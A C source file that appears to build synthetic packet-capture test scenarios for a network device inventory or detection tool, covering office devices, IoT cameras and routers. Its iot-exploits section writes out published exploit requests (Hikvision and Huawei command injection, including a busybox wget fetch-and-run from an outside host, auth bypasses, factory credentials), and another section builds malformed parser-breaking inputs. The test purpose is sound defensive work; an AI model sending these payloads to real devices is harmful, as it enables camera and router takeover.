/* The device scenarios: a small office network of cameras, a recorder, a
 * router and PCs announcing themselves (ARP, DHCP, mDNS, NetBIOS, SSDP,
 * RTSP, HTTP, telnet), the cameras calling out or being reached from
 * outside (devices); and the published exploit requests against cameras and
 * routers beside benign requests to the same devices (iot-exploits). */
#include <stdio.h>
#include <string.h>

#include "scenarios.h"
#include "wire.h"

/* Real IEEE assignments, so vendor lookups have something to find. */
static const uint8_t mac_router[6] = {0x30, 0xfb, 0xb8, 0x10, 0x00, 0x01};   /* Huawei */
static const uint8_t mac_hik_cam[6] = {0x44, 0x47, 0xcc, 0x10, 0x00, 0x20};  /* Hikvision */
static const uint8_t mac_dahua_cam[6] = {0x08, 0xed, 0xed, 0x10, 0x00, 0x21}; /* Dahua */
static const uint8_t mac_hik_nvr[6] = {0x58, 0x03, 0xfb, 0x10, 0x00, 0x30};  /* Hikvision */
static const uint8_t mac_pc[6] = {0x98, 0xe7, 0x43, 0x10, 0x00, 0x40};       /* Dell */
static const uint8_t mac_mac[6] = {0x34, 0x36, 0x3b, 0x10, 0x00, 0x41};      /* Apple */
static const uint8_t mac_phone[6] = {0x5a, 0x11, 0x22, 0x33, 0x44, 0x42};    /* randomised */
static const uint8_t mac_axis[6] = {0xb8, 0xa4, 0x4f, 0x10, 0x00, 0x50};     /* Axis */
static const uint8_t mac_bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t mac_ssdp[6] = {0x01, 0x00, 0x5e, 0x7f, 0xff, 0xfa};
static const uint8_t mac_mdns[6] = {0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb};

static void eth_path(struct path *pa, int iface, const uint8_t src[6], const uint8_t dst[6])
{
    memset(pa, 0, sizeof *pa);
    pa->iface = iface;
    struct layer l = {.kind = LY_ETH};
    memcpy(l.mac_a, src, 6);
    memcpy(l.mac_b, dst, 6);
    path_push(pa, &l);
}

/* Two hosts of the segment, by address and MAC. */
struct lan_hop {
    const char *src;
    const uint8_t *src_mac;
    const char *dst;
    const uint8_t *dst_mac;
};

/* A UDP datagram from hop's source to its destination. */
static void lan_datagram(struct gen *g, int iface, const struct lan_hop *hop, uint16_t sport, uint16_t dport,
                         uint64_t t, const uint8_t *data, size_t len)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, hop->src, hop->dst);
    struct path pa;
    eth_path(&pa, iface, hop->src_mac, hop->dst_mac);
    udp_datagram(g, &pa, &ip, sport, dport, 0, t, data, len);
}

static void arp_frame(struct gen *g, int iface, uint64_t ts, uint16_t op, const uint8_t smac[6], const char *sip,
                      const uint8_t tmac[6], const char *tip)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, sip, tip);
    uint8_t f[60] = {0};
    memcpy(f, op == 1 ? mac_bcast : tmac, 6);
    memcpy(f + 6, smac, 6);
    f[12] = 0x08, f[13] = 0x06;
    uint8_t *a = f + 14;
    a[0] = 0, a[1] = 1, a[2] = 0x08, a[3] = 0, a[4] = 6, a[5] = 4, a[6] = 0, a[7] = (uint8_t)op;
    memcpy(a + 8, smac, 6);
    memcpy(a + 14, ip.src, 4);
    memcpy(a + 18, op == 1 ? (const uint8_t[6]){0} : tmac, 6);
    memcpy(a + 24, ip.dst, 4);
    gen_queue(g, iface, ts, f, sizeof f);
}

/* ---- DHCP ---- */

static void dhcp_opt(struct wr *w, uint8_t code, const void *data, size_t len)
{
    w_u8(w, code);
    w_u8(w, (uint8_t)len);
    w_bytes(w, data, len);
}

static void dhcp_lease(struct gen *g, int iface, uint64_t t, const uint8_t mac[6], const char *addr, const char *name,
                       const char *vendor, const uint8_t *prl, size_t prl_len)
{
    struct ip_pair ip;
    uint32_t xid = (uint32_t)rng_next(g);
    for (int msg = 0; msg < 2; msg++) {
        bool request = msg == 0;
        uint8_t buf[600];
        struct wr w;
        w_init(&w, buf, sizeof buf);
        w_u8(&w, request ? 1 : 2);
        w_u8(&w, 1), w_u8(&w, 6), w_u8(&w, 0);
        w_u32(&w, xid);
        w_u16(&w, 0), w_u16(&w, 0);
        struct ip_pair yi;
        ip_pair_v4(&yi, addr, "192.168.50.1");
        w_zero(&w, 4);                                  /* ciaddr */
        w_bytes(&w, request ? (const uint8_t[4]){0} : yi.src, 4); /* yiaddr */
        w_zero(&w, 8);                                  /* siaddr, giaddr */
        w_bytes(&w, mac, 6);
        w_zero(&w, 10 + 64 + 128);
        w_u32(&w, 0x63825363);
        uint8_t type = request ? 3 : 5;
        dhcp_opt(&w, 53, &type, 1);
        if (request) {
            dhcp_opt(&w, 50, yi.src, 4);
            if (name)
                dhcp_opt(&w, 12, name, strlen(name));
            if (vendor)
                dhcp_opt(&w, 60, vendor, strlen(vendor));
            dhcp_opt(&w, 55, prl, prl_len);
        } else {
            dhcp_opt(&w, 54, yi.dst, 4);
            dhcp_opt(&w, 6, yi.dst, 4);
        }
        w_u8(&w, 255);
        while (w.len < 300)
            w_u8(&w, 0);
        struct path pa;
        if (request) {
            ip_pair_v4(&ip, "0.0.0.0", "255.255.255.255");
            eth_path(&pa, iface, mac, mac_bcast);
        } else {
            ip_pair_v4(&ip, "192.168.50.1", addr);
            eth_path(&pa, iface, mac_router, mac);
        }
        udp_datagram(g, &pa, &ip, request ? 68 : 67, request ? 67 : 68, 0, t + MS(4) * (uint64_t)msg, w.buf, w.len);
    }
}

/* ---- mDNS, NetBIOS, SSDP ---- */

static void mdns_announce(struct gen *g, int iface, uint64_t t, const uint8_t mac[6], const char *addr,
                          const char *name)
{
    uint8_t buf[512];
    struct wr w;
    w_init(&w, buf, sizeof buf);
    wdns_fixed_header(&w, 0, 0x8400, 0, 1, 0, 0);
    struct ip_pair a;
    ip_pair_v4(&a, addr, "224.0.0.251");
    wdns_rr_addr(&w, name, 120, &a);
    const struct lan_hop hop = {addr, mac, "224.0.0.251", mac_mdns};
    lan_datagram(g, iface, &hop, 5353, 5353, t, w.buf, w.len);
}

/* NetBIOS first-level encoding of a 15-character name plus suffix 0x00. */
static void netbios_name(struct wr *w, const char *name)
{
    w_u8(w, 32);
    char padded[16];
    memset(padded, ' ', 15);
    padded[15] = 0;
    memcpy(padded, name, strlen(name) < 15 ? strlen(name) : 15);
    for (int i = 0; i < 16; i++) {
        uint8_t c = (uint8_t)padded[i];
        w_u8(w, (uint8_t)('A' + (c >> 4)));
        w_u8(w, (uint8_t)('A' + (c & 15)));
    }
    w_u8(w, 0);
}

static void netbios_register(struct gen *g, int iface, uint64_t t, const uint8_t mac[6], const char *addr,
                             const char *name)
{
    uint8_t buf[256];
    struct wr w;
    w_init(&w, buf, sizeof buf);
    wdns_fixed_header(&w, 0x1234, 0x2910, 1, 0, 0, 1);
    netbios_name(&w, name);
    w_u16(&w, 32), w_u16(&w, 1);
    w_u8(&w, 0xc0), w_u8(&w, 12);
    w_u16(&w, 32), w_u16(&w, 1), w_u32(&w, 300000), w_u16(&w, 6), w_u16(&w, 0);
    struct ip_pair a;
    ip_pair_v4(&a, addr, "192.168.50.255");
    w_bytes(&w, a.src, 4);
    const struct lan_hop hop = {addr, mac, "192.168.50.255", mac_bcast};
    lan_datagram(g, iface, &hop, 137, 137, t, w.buf, w.len);
}

static void ssdp_notify(struct gen *g, int iface, uint64_t t, const uint8_t mac[6], const char *addr,
                        const char *server, const char *nt)
{
    char msg[600];
    int n = snprintf(msg, sizeof msg,
                     "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\n"
                     "LOCATION: http://%s:80/upnp/desc.xml\r\nNT: %s\r\nNTS: ssdp:alive\r\nSERVER: %s\r\n"
                     "USN: uuid:0123-%s::%s\r\n\r\n",
                     addr, nt, server, addr, nt);
    const struct lan_hop hop = {addr, mac, "239.255.255.250", mac_ssdp};
    lan_datagram(g, iface, &hop, 1900, 1900, t, (const uint8_t *)msg, (size_t)n);
}

/* ---- TCP exchanges ---- */

/* One request and one reply over a fresh connection; returns the end time. */
static uint64_t tcp_exchange(struct gen *g, int iface, uint64_t t, const uint8_t cmac[6], const char *client,
                             const uint8_t smac[6], const char *server, uint16_t cport, uint16_t sport,
                             const char *request, const char *reply)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, client, server);
    struct path pa;
    eth_path(&pa, iface, cmac, smac);
    struct tcp_flow f;
    tcp_connect(&f, g, &pa, &ip, cport, sport, t);
    if (request && *request)
        tcp_send(&f, 0, (const uint8_t *)request, strlen(request));
    tcp_wait(&f, 2000);
    if (reply && *reply)
        tcp_send(&f, 1, (const uint8_t *)reply, strlen(reply));
    tcp_close(&f, 0);
    return f.now;
}

static void ntp_call(struct gen *g, int iface, uint64_t t, const uint8_t mac[6], const char *addr)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, addr, "162.159.200.1");
    struct path pa;
    eth_path(&pa, iface, mac, mac_router);
    uint8_t ntp[48] = {0x23};
    udp_datagram(g, &pa, &ip, 123, 123, 0, t, ntp, sizeof ntp);
    ntp[0] = 0x24;
    udp_datagram(g, &pa, &ip, 123, 123, 1, t + MS(20), ntp, sizeof ntp);
}

static bool run_devices(struct gen *g)
{
    int iface = add_ethernet_iface(g, 65535);
    uint64_t t = GEN_BASE_TIME_US;
    /* The router answers for the gateway address. */
    arp_frame(g, iface, t, 1, mac_pc, "192.168.50.40", NULL, "192.168.50.1");
    arp_frame(g, iface, t + MS(1), 2, mac_router, "192.168.50.1", mac_pc, "192.168.50.40");
    arp_frame(g, iface, t + MS(5), 2, mac_hik_cam, "192.168.50.20", mac_router, "192.168.50.1");
    arp_frame(g, iface, t + MS(6), 2, mac_hik_nvr, "192.168.50.30", mac_router, "192.168.50.1");
    arp_frame(g, iface, t + MS(7), 2, mac_axis, "192.168.50.50", mac_router, "192.168.50.1");
    ssdp_notify(g, iface, t + MS(10), mac_router, "192.168.50.1", "Linux/2.6 UPnP/1.0 HuaweiHomeGateway/1.0",
                "urn:schemas-upnp-org:device:InternetGatewayDevice:1");

    /* A Windows PC: DHCP, NetBIOS, and web browsing through the router. */
    static const uint8_t prl_windows[] = {1, 3, 6, 15, 31, 33, 43, 44, 46, 47, 119, 121, 249, 252};
    dhcp_lease(g, iface, t + SEC(1), mac_pc, "192.168.50.40", "ALICE-PC", "MSFT 5.0", prl_windows,
               sizeof prl_windows);
    netbios_register(g, iface, t + SEC(2), mac_pc, "192.168.50.40", "ALICE-PC");
    tcp_exchange(g, iface, t + SEC(3), mac_pc, "192.168.50.40", mac_router, "93.184.216.34", 50100, 80,
                 "GET / HTTP/1.1\r\nHost: example.com\r\n\r\n",
                 "HTTP/1.1 200 OK\r\nServer: ECS (nyb/1D2E)\r\nContent-Length: 0\r\n\r\n");
    /* A Mac announcing itself over mDNS; a phone with a randomised MAC. */
    static const uint8_t prl_mac[] = {1, 121, 3, 6, 15, 108, 114, 119, 252, 95, 44, 46};
    dhcp_lease(g, iface, t + SEC(4), mac_mac, "192.168.50.41", NULL, NULL, prl_mac, sizeof prl_mac);
    mdns_announce(g, iface, t + SEC(5), mac_mac, "192.168.50.41", "bobs-macbook.local");
    static const uint8_t prl_android[] = {1, 3, 6, 15, 26, 28, 51, 58, 59, 43};
    dhcp_lease(g, iface, t + SEC(6), mac_phone, "192.168.50.42", "Pixel-7", "android-dhcp-13", prl_android,
               sizeof prl_android);

    /* The Hikvision camera: SSDP, its web server, a call home, NTP. */
    ssdp_notify(g, iface, t + SEC(7), mac_hik_cam, "192.168.50.20", "Linux/3.0, UPnP/1.0, Hikvision-Webs/1.0",
                "upnp:rootdevice");
    tcp_exchange(g, iface, t + SEC(8), mac_pc, "192.168.50.40", mac_hik_cam, "192.168.50.20", 50110, 80,
                 "GET /ISAPI/System/deviceInfo HTTP/1.1\r\nHost: 192.168.50.20\r\n\r\n",
                 "HTTP/1.1 401 Unauthorized\r\nServer: App-webs/\r\nWWW-Authenticate: Digest "
                 "realm=\"DS-2CD2143G0-I\", nonce=\"4e6a\", qop=\"auth\"\r\nContent-Length: 0\r\n\r\n");
    ntp_call(g, iface, t + SEC(9), mac_hik_cam, "192.168.50.20");
    tcp_exchange(g, iface, t + SEC(10), mac_hik_cam, "192.168.50.20", mac_router, "45.33.32.156", 41000, 9000,
                 "\x20\x00\x00\x00\x5a\xa5\x01\x00", "\x20\x00\x00\x00\x5a\xa5\x02\x00");

    /* The Dahua camera: DHCP with its model as host name, RTSP, NTP only. */
    static const uint8_t prl_busybox[] = {1, 3, 6, 12, 15, 28, 42};
    dhcp_lease(g, iface, t + SEC(11), mac_dahua_cam, "192.168.50.21", "IPC-HDW2431T", "udhcp 1.20.2", prl_busybox,
               sizeof prl_busybox);
    tcp_exchange(g, iface, t + SEC(12), mac_pc, "192.168.50.40", mac_dahua_cam, "192.168.50.21", 50120, 554,
                 "OPTIONS rtsp://192.168.50.21:554/cam/realmonitor?channel=1 RTSP/1.0\r\nCSeq: 1\r\n\r\n",
                 "RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: Rtsp Server/3.0\r\n"
                 "Public: OPTIONS, DESCRIBE, SETUP, PLAY, TEARDOWN\r\n\r\n");
    ntp_call(g, iface, t + SEC(13), mac_dahua_cam, "192.168.50.21");

    /* The Hikvision recorder: web server, telnet banner, reached from outside. */
    tcp_exchange(g, iface, t + SEC(14), mac_pc, "192.168.50.40", mac_hik_nvr, "192.168.50.30", 50130, 80,
                 "GET / HTTP/1.1\r\nHost: 192.168.50.30\r\n\r\n",
                 "HTTP/1.1 200 OK\r\nServer: DNVRS-Webs\r\nContent-Length: 0\r\n\r\n");
    tcp_exchange(g, iface, t + SEC(15), mac_pc, "192.168.50.40", mac_hik_nvr, "192.168.50.30", 50131, 23, "",
                 "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\r\n192.0.0.64 login: ");
    tcp_exchange(g, iface, t + SEC(16), mac_router, "185.220.101.7", mac_hik_nvr, "192.168.50.30", 61000, 80,
                 "GET /doc/page/login.asp HTTP/1.1\r\nHost: 192.168.50.30\r\n\r\n",
                 "HTTP/1.1 200 OK\r\nServer: DNVRS-Webs\r\nContent-Length: 0\r\n\r\n");

    /* Behind 192.168.50.50 an Axis camera, then a Hikvision MAC: spoofing? */
    arp_frame(g, iface, t + SEC(17), 2, mac_hik_cam, "192.168.50.50", mac_router, "192.168.50.1");
    return true;
}

/* ---- iot-exploits ---- */

/* An HTTP request with a body from the outside to a device, and its reply. */
static uint64_t http_to_device(struct gen *g, int iface, uint64_t t, const char *from, uint16_t cport,
                               const uint8_t smac[6], const char *server, uint16_t sport, const char *method,
                               const char *uri, const char *extra_headers, const char *body, const char *reply)
{
    char req[2048];
    snprintf(req, sizeof req, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: python-requests/2.25.1\r\n%s"
             "Content-Length: %zu\r\n\r\n%s", method, uri, server, extra_headers, strlen(body), body);
    return tcp_exchange(g, iface, t, mac_router, from, smac, server, cport, sport, req, reply);
}

static const char ok_xml[] = "HTTP/1.1 200 OK\r\nServer: App-webs/\r\nContent-Type: application/xml\r\n"
                             "Content-Length: 0\r\n\r\n";
static const char ok_json[] = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n";

static const char dahua_login_fmt[] =
    "{\"method\":\"global.login\",\"params\":{\"userName\":\"admin\",\"password\":\"%s\","
    "\"clientType\":\"%s\",\"loginType\":\"%s\",\"authorityType\":\"Default\",\"passwordType\":\"%s\"},"
    "\"id\":1,\"session\":0}";

static const char huawei_upgrade_fmt[] =
    "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
    "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade "
    "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>%s</NewStatusURL>"
    "<NewDownloadURL>%s</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";

static bool run_iot_exploits(struct gen *g)
{
    int iface = add_ethernet_iface(g, 65535);
    uint64_t t = GEN_BASE_TIME_US;
    const char *attacker = "185.220.101.7", *admin = "192.168.50.40";
    char body[1024];
    /* CVE-2021-36260, then the same endpoint used as intended. */
    http_to_device(g, iface, t, attacker, 40001, mac_hik_cam, "192.168.50.20", 80, "PUT", "/SDK/webLanguage", "",
                   "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>", ok_xml);
    http_to_device(g, iface, t + SEC(1), admin, 40002, mac_hik_cam, "192.168.50.20", 80, "PUT", "/SDK/webLanguage",
                   "", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>English</language>", ok_xml);
    /* CVE-2017-7921 (the classic PoC and a randomised password), then a normal request. */
    http_to_device(g, iface, t + SEC(2), attacker, 40003, mac_hik_cam, "192.168.50.20", 80, "GET",
                   "/Security/users?auth=YWRtaW46MTEK", "", "", ok_xml);
    http_to_device(g, iface, t + SEC(3), attacker, 40004, mac_hik_cam, "192.168.50.20", 80, "GET",
                   "/System/configurationFile?auth=YWRtaW46cXdlcnR5", "", "", ok_xml);
    http_to_device(g, iface, t + SEC(4), admin, 40005, mac_hik_cam, "192.168.50.20", 80, "GET",
                   "/System/deviceInfo", "", "", ok_xml);
    /* CVE-2021-33044 and CVE-2021-33045, then a normal web login. */
    snprintf(body, sizeof body, dahua_login_fmt, "Not Used", "NetKeyboard", "Direct", "Default");
    http_to_device(g, iface, t + SEC(5), attacker, 40006, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
                   "Content-Type: application/json\r\n", body, ok_json);
    snprintf(body, sizeof body, dahua_login_fmt, "admin", "Local", "Loopback", "Plain");
    http_to_device(g, iface, t + SEC(6), attacker, 40007, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
                   "Content-Type: application/json\r\n", body, ok_json);
    snprintf(body, sizeof body, dahua_login_fmt, "5D7C0A3B", "Web3.0", "Direct", "Default");
    http_to_device(g, iface, t + SEC(7), admin, 40008, mac_dahua_cam, "192.168.50.21", 80, "POST", "/RPC2_Login",
                   "Content-Type: application/json\r\n", body, ok_json);
    /* CVE-2017-17215 on the router's UPnP port, then a harmless upgrade call. */
    snprintf(body, sizeof body, huawei_upgrade_fmt, "$(/bin/busybox wget -g 185.220.101.7 -l /tmp/x -r /x; sh /tmp/x)",
             "$(echo HUAWEIUPNP)");
    http_to_device(g, iface, t + SEC(8), attacker, 40009, mac_router, "192.168.50.1", 37215, "POST",
                   "/ctrlt/DeviceUpgrade_1",
                   "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", "
                   "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\"\r\n",
                   body, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    snprintf(body, sizeof body, huawei_upgrade_fmt, "http://192.168.50.1/status", "http://192.168.50.1/fw.bin");
    http_to_device(g, iface, t + SEC(9), admin, 40010, mac_router, "192.168.50.1", 37215, "POST",
                   "/ctrlt/DeviceUpgrade_1", "", body, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    /* Factory credentials over HTTP, RTSP and telnet; then other credentials. */
    http_to_device(g, iface, t + SEC(10), attacker, 40011, mac_hik_cam, "192.168.50.20", 80, "GET",
                   "/ISAPI/System/deviceInfo", "Authorization: Basic YWRtaW46MTIzNDU=\r\n", "", ok_xml);
    http_to_device(g, iface, t + SEC(11), admin, 40012, mac_hik_cam, "192.168.50.20", 80, "GET",
                   "/ISAPI/System/deviceInfo", "Authorization: Basic b3BlcmF0b3I6UzNjdXJlIVBhc3M=\r\n", "", ok_xml);
    tcp_exchange(g, iface, t + SEC(12), mac_router, attacker, mac_dahua_cam, "192.168.50.21", 40013, 554,
                 "DESCRIBE rtsp://192.168.50.21/cam/realmonitor RTSP/1.0\r\nCSeq: 2\r\n"
                 "Authorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
                 "RTSP/1.0 200 OK\r\nCSeq: 2\r\nServer: Rtsp Server/3.0\r\n\r\n");
    tcp_exchange(g, iface, t + SEC(13), mac_pc, admin, mac_dahua_cam, "192.168.50.21", 40014, 554,
                 "DESCRIBE rtsp://192.168.50.21/cam/realmonitor RTSP/1.0\r\nCSeq: 2\r\n"
                 "Authorization: Basic b3BlcmF0b3I6UzNjdXJlIVBhc3M=\r\n\r\n",
                 "RTSP/1.0 200 OK\r\nCSeq: 2\r\nServer: Rtsp Server/3.0\r\n\r\n");
    tcp_exchange(g, iface, t + SEC(14), mac_router, attacker, mac_hik_nvr, "192.168.50.30", 40015, 23,
                 "root\r\nxc3511\r\n", "\r\n192.0.0.64 login: ");
    tcp_exchange(g, iface, t + SEC(15), mac_pc, admin, mac_hik_nvr, "192.168.50.30", 40016, 23,
                 "operator\r\nS3cure!Pass\r\n", "\r\n192.0.0.64 login: ");
    return true;
}

/* ---- devices-hostile ---- */

/* A DHCP request whose options lie: a host name running past the end, an
 * empty parameter list, a too-short FQDN. */
static void dhcp_malformed(struct gen *g, int iface, uint64_t t)
{
    static const uint8_t mac[6] = {0x44, 0x47, 0xcc, 0x66, 0x66, 0x01};
    uint8_t buf[400];
    struct wr w;
    w_init(&w, buf, sizeof buf);
    w_u8(&w, 1), w_u8(&w, 1), w_u8(&w, 6), w_u8(&w, 0);
    w_u32(&w, 0xdeadbeef);
    w_zero(&w, 4 + 16);
    w_bytes(&w, mac, 6);
    w_zero(&w, 10 + 64 + 128);
    w_u32(&w, 0x63825363);
    w_u8(&w, 53), w_u8(&w, 1), w_u8(&w, 3);
    w_u8(&w, 55), w_u8(&w, 0);
    w_u8(&w, 81), w_u8(&w, 1), w_u8(&w, 0);
    w_u8(&w, 60), w_u8(&w, 4), w_str(&w, "\x01\x02\x7f\n");
    w_u8(&w, 12), w_u8(&w, 200), w_str(&w, "cut-short");
    const struct lan_hop hop = {"0.0.0.0", mac, "255.255.255.255", mac_bcast};
    lan_datagram(g, iface, &hop, 68, 67, t, w.buf, w.len);
}

/* An mDNS answer whose owner name points at itself, after a question
 * that lets the datagram pass for DNS. */
static void mdns_loop(struct gen *g, int iface, uint64_t t)
{
    uint8_t m[96];
    struct wr w;
    w_init(&w, m, sizeof m);
    wdns_fixed_header(&w, 0, 0x8400, 1, 1, 0, 0);
    w_str(&w, "\x04loop\x05local");
    w_u8(&w, 0), w_u16(&w, 1), w_u16(&w, 1);
    size_t self = w.len;
    w_u8(&w, 0xc0), w_u8(&w, (uint8_t)self); /* the answer's name is a pointer to itself */
    w_u16(&w, 1), w_u16(&w, 1), w_u32(&w, 120), w_u16(&w, 4);
    w_u8(&w, 192), w_u8(&w, 168), w_u8(&w, 50), w_u8(&w, 66);
    const struct lan_hop hop = {"192.168.50.66", mac_hik_cam, "224.0.0.251", mac_mdns};
    lan_datagram(g, iface, &hop, 5353, 5353, t, w.buf, w.len);
}

/* An SSDP announcement with as many headers as a datagram holds, its
 * SERVER header last. */
static void ssdp_flood(struct gen *g, int iface, uint64_t t)
{
    static uint8_t msg[15000];
    struct wr w;
    w_init(&w, msg, sizeof msg);
    w_str(&w, "NOTIFY * HTTP/1.1\r\n");
    while (w.len + 40 < sizeof msg)
        w_str(&w, "A:b\r\n");
    w_str(&w, "SERVER: Hikvision-Webs\r\n\r\n");
    const struct lan_hop hop = {"192.168.50.67", mac_dahua_cam, "239.255.255.250", mac_ssdp};
    lan_datagram(g, iface, &hop, 1900, 1900, t, w.buf, w.len);
}

/* A UPnP device description of 100 MB. */
static void upnp_huge(struct gen *g, int iface, uint64_t t)
{
    struct ip_pair ip;
    ip_pair_v4(&ip, "192.168.50.40", "192.168.50.1");
    struct path pa;
    eth_path(&pa, iface, mac_pc, mac_router);
    struct tcp_flow f;
    tcp_connect(&f, g, &pa, &ip, 50200, 49152, t);
    static const char req[] = "GET /upnp/desc.xml HTTP/1.1\r\nHost: 192.168.50.1:49152\r\n\r\n";
    tcp_send(&f, 0, (const uint8_t *)req, sizeof req - 1);
    const size_t body = 100u * 1024 * 1024;
    char head[512];
    int n = snprintf(head, sizeof head,
                     "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: %zu\r\n\r\n"
                     "<?xml version=\"1.0\"?><root><device><deviceType>urn:schemas-upnp-org:device:"
                     "InternetGatewayDevice:1</deviceType><manufacturer>Huawei",
                     body);
    size_t xml = (size_t)n - (size_t)(strstr(head, "\r\n\r\n") + 4 - head);
    tcp_send(&f, 1, (const uint8_t *)head, (size_t)n);
    for (size_t sent = xml; sent < body;) {
        size_t chunk = body - sent < 1u << 20 ? body - sent : 1u << 20;
        tcp_send_filler(&f, 1, chunk);
        sent += chunk;
    }
    tcp_close(&f, 1);
}

static bool run_devices_hostile(struct gen *g)
{
    int iface = add_ethernet_iface(g, 65535);
    uint64_t t = GEN_BASE_TIME_US;
    dhcp_malformed(g, iface, t);
    mdns_loop(g, iface, t + SEC(1));
    ssdp_flood(g, iface, t + SEC(2));
    upnp_huge(g, iface, t + SEC(3));
    return true;
}

/* ---- devices-many ---- */

#define MANY_DEVICES 3000

/* Thousands of devices, each leasing an address, answering ARP and a web
 * request, some calling NTP or an outside address: a capture where the
 * inventory's cost per device dominates (for make bench, not a golden). */
static bool run_devices_many(struct gen *g)
{
    static const uint8_t ouis[][3] = {{0x44, 0x47, 0xcc}, {0x08, 0xed, 0xed}, {0x30, 0xfb, 0xb8},
                                      {0x98, 0xe7, 0x43}, {0x34, 0x36, 0x3b}, {0xb8, 0xa4, 0x4f}};
    static const char *const servers[] = {"App-webs/", "DNVRS-Webs", "Boa/0.94.14rc21", "lighttpd/1.4.35",
                                          "Microsoft-IIS/10.0", "nginx"};
    static const uint8_t prl_busybox[] = {1, 3, 6, 12, 15, 28, 42};
    static const uint8_t prl_windows[] = {1, 3, 6, 15, 31, 33, 43, 44, 46, 47, 119, 121, 249, 252};
    int iface = add_ethernet_iface(g, 65535);
    uint64_t t = GEN_BASE_TIME_US;
    arp_frame(g, iface, t, 2, mac_router, "10.50.0.1", mac_pc, "10.50.255.10");
    for (unsigned i = 0; i < MANY_DEVICES; i++) {
        uint64_t at = t + MS(50) * (i + 1);
        uint8_t mac[6] = {ouis[i % 6][0], ouis[i % 6][1], ouis[i % 6][2], 0x20, (uint8_t)(i >> 8), (uint8_t)i};
        char addr[16], name[16], reply[160];
        snprintf(addr, sizeof addr, "10.50.%u.%u", i / 250 + 1, i % 250 + 2);
        snprintf(name, sizeof name, "dev-%05u", i);
        bool windows = i % 6 == 3;
        dhcp_lease(g, iface, at, mac, addr, name, windows ? "MSFT 5.0" : "udhcp 1.20.2",
                   windows ? prl_windows : prl_busybox, windows ? sizeof prl_windows : sizeof prl_busybox);
        arp_frame(g, iface, at + MS(10), 2, mac, addr, mac_router, "10.50.0.1");
        snprintf(reply, sizeof reply, "HTTP/1.1 200 OK\r\nServer: %s\r\nContent-Length: 0\r\n\r\n",
                 servers[i % 6]);
        tcp_exchange(g, iface, at + MS(12), mac_pc, "10.50.255.10", mac, addr, (uint16_t)(20000 + i % 40000), 80,
                     "GET / HTTP/1.1\r\nHost: device\r\n\r\n", reply);
        if (i % 4 == 0)
            ntp_call(g, iface, at + MS(30), mac, addr);
        if (i % 7 == 0)
            tcp_exchange(g, iface, at + MS(35), mac, addr, mac_router, "45.33.32.156", (uint16_t)(40000 + i % 20000),
                         443, "\x16\x03\x01", "\x16\x03\x03");
    }
    return true;
}

static const struct scenario device_scenarios[] = {
    {"devices", "cameras, a recorder, a router and PCs on one segment: ARP, DHCP, mDNS, NetBIOS, SSDP, RTSP, "
                "HTTP and telnet banners; a camera calling out, one calling NTP, a recorder reached from outside",
     false, run_devices},
    {"iot-exploits", "the published requests of CVE-2021-36260, CVE-2017-7921, CVE-2021-33044, CVE-2021-33045, "
                     "CVE-2017-17215 and factory-credential logins (HTTP, RTSP, telnet), each beside a benign "
                     "request to the same device",
     false, run_iot_exploits},
    {"devices-hostile", "malformed DHCP options, an mDNS name pointing at itself, an SSDP datagram full of "
                        "headers, a 100 MB UPnP description",
     false, run_devices_hostile},
    {"devices-many", "3,000 devices on one segment, each leasing an address, answering ARP and a web request; "
                     "some calling NTP or an outside address (the inventory's cost per device, for make bench)",
     false, run_devices_many},
};

const struct scenario *device_scenario_at(size_t i)
{
    size_t n = sizeof device_scenarios / sizeof device_scenarios[0];
    return i < n ? &device_scenarios[i] : ad_scenario_at(i - n);
}
